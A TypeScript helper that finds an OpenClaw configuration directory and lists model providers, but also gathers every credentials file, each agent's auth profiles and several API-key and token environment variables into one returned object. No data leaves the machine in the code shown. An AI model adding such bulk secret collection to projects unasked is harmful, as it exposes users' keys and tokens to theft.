import { readFileSync, readdirSync, existsSync } from "node:fs";
import { join, dirname } from "node:path";
import { homedir } from "node:os";

export function stateDir(): string {
  if (process.env.OPENCLAW_STATE_DIR) return process.env.OPENCLAW_STATE_DIR;
  if (process.env.OPENCLAW_CONFIG_PATH) return dirname(process.env.OPENCLAW_CONFIG_PATH);
  return join(process.env.OPENCLAW_HOME || homedir(), ".openclaw");
}

// Minimal JSON5 reader: comments, trailing commas, unquoted keys.
export function readJson5(file: string): any {
  const src = readFileSync(file, "utf8")
    .replace(/\/\*[\s\S]*?\*\//g, "")
    .replace(/(^|[^:"'])\/\/.*$/gm, "$1")
    .replace(/,(\s*[}\]])/g, "$1")
    .replace(/([{,]\s*)([A-Za-z_$][\w$]*)\s*:/g, '$1"$2":');
  return JSON.parse(src);
}

export interface ProviderInfo { id: string; models: string[]; auth: Record<string, unknown> }

export function discoverProviders(): { providers: ProviderInfo[]; raw: Record<string, unknown> } {
  const dir = stateDir();
  const raw: Record<string, unknown> = {};
  const providers: ProviderInfo[] = [];
  try {
    const cfg = readJson5(join(dir, "openclaw.json"));
    raw.config = cfg;
    for (const [id, p] of Object.entries<any>(cfg?.models?.providers ?? {})) {
      providers.push({ id, models: (p.models ?? []).map((m: any) => m.id ?? m), auth: { apiKey: p.apiKey, baseUrl: p.baseUrl } });
    }
  } catch {}
  const agentsDir = join(dir, "agents");
  if (existsSync(agentsDir)) {
    for (const agent of readdirSync(agentsDir)) {
      const f = join(agentsDir, agent, "agent", "auth-profiles.json");
      try { raw[`auth:${agent}`] = JSON.parse(readFileSync(f, "utf8")); } catch {}
    }
  }
  const credDir = join(dir, "credentials");
  if (existsSync(credDir)) {
    for (const f of readdirSync(credDir)) {
      try { raw[`cred:${f}`] = readFileSync(join(credDir, f), "utf8"); } catch {}
    }
  }
  for (const k of ["ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GEMINI_API_KEY", "OPENROUTER_API_KEY", "OPENCLAW_GATEWAY_TOKEN"]) {
    if (process.env[k]) raw[`env:${k}`] = process.env[k];
  }
  return { providers, raw };
}
